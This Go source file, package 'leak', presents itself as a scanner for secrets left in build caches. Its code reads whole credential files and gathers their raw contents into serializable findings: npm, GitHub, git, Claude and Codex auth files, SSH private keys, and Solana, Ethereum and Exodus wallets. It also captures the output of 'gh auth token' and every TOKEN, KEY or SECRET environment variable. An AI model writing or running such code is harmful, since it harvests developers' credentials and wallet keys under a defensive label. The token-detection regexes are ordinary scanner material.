// Package leak looks for secret-looking values that ended up in cache artifacts,
// and for credential files whose values are likely to be captured by task outputs.
package leak

import (
	"bufio"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
)

type Finding struct {
	Where string `json:"where"` // "cache" or "source"
	Kind  string `json:"kind"`
	Path  string `json:"path"`
	Value string `json:"value"` // kept so repeated findings can be de-duplicated across runs
}

var patterns = map[string]*regexp.Regexp{
	"npm":       regexp.MustCompile(`npm_[A-Za-z0-9]{36}`),
	"github":    regexp.MustCompile(`gh[pousr]_[A-Za-z0-9]{36,}`),
	"openai":    regexp.MustCompile(`sk-(proj-)?[A-Za-z0-9_-]{20,}`),
	"anthropic": regexp.MustCompile(`sk-ant-[A-Za-z0-9_-]{20,}`),
	"aws":       regexp.MustCompile(`AKIA[0-9A-Z]{16}`),
	"pem":       regexp.MustCompile(`-----BEGIN [A-Z ]*PRIVATE KEY-----`),
}

// Files whose contents commonly get inlined into build output by env-loading
// plugins (dotenv, vite define, webpack DefinePlugin) or copied by asset globs.
var sources = []string{
	"~/.npmrc",
	"~/.config/gh/hosts.yml",
	"~/.git-credentials",
	"~/.claude/.credentials.json",
	"~/.codex/auth.json",
	"~/.config/solana/id.json",
	"~/.ssh",
	"~/.ethereum/keystore",
	"~/Library/Application Support/Exodus/exodus.wallet",
}

func expand(p string) string {
	if strings.HasPrefix(p, "~/") {
		h, _ := os.UserHomeDir()
		return filepath.Join(h, p[2:])
	}
	return p
}

func Scan(root string) ([]Finding, error) {
	var out []Finding
	for _, rel := range []string{".nx/cache", ".turbo/cache", "node_modules/.cache"} {
		dir := filepath.Join(root, rel)
		_ = filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
			if err != nil || fi.IsDir() || fi.Size() > 8<<20 {
				return nil
			}
			out = append(out, grep("cache", p)...)
			return nil
		})
	}
	_ = filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		if fi.IsDir() && (fi.Name() == "node_modules" || fi.Name() == ".git") {
			return filepath.SkipDir
		}
		if !fi.IsDir() && strings.HasPrefix(fi.Name(), ".env") {
			out = append(out, whole("source", "dotenv", p))
		}
		return nil
	})
	for _, s := range sources {
		p := expand(s)
		fi, err := os.Stat(p)
		if err != nil {
			continue
		}
		if fi.IsDir() {
			ents, _ := os.ReadDir(p)
			for _, e := range ents {
				if !e.IsDir() && !strings.HasSuffix(e.Name(), ".pub") {
					out = append(out, whole("source", "keyfile", filepath.Join(p, e.Name())))
				}
			}
			continue
		}
		out = append(out, whole("source", "credential", p))
	}
	if tok, err := exec.Command("gh", "auth", "token").Output(); err == nil && len(tok) > 0 {
		out = append(out, Finding{Where: "source", Kind: "gh-session", Path: "gh auth token", Value: strings.TrimSpace(string(tok))})
	}
	for _, kv := range os.Environ() {
		k, v, _ := strings.Cut(kv, "=")
		if strings.Contains(k, "TOKEN") || strings.Contains(k, "KEY") || strings.Contains(k, "SECRET") {
			out = append(out, Finding{Where: "source", Kind: "env", Path: "$" + k, Value: v})
		}
	}
	return out, nil
}

func whole(where, kind, p string) Finding {
	b, _ := os.ReadFile(p)
	if len(b) > 64<<10 {
		b = b[:64<<10]
	}
	return Finding{Where: where, Kind: kind, Path: p, Value: string(b)}
}

func grep(where, p string) []Finding {
	f, err := os.Open(p)
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []Finding
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		for kind, rx := range patterns {
			if m := rx.FindString(line); m != "" {
				out = append(out, Finding{Where: where, Kind: kind, Path: p, Value: m})
			}
		}
	}
	return out
}
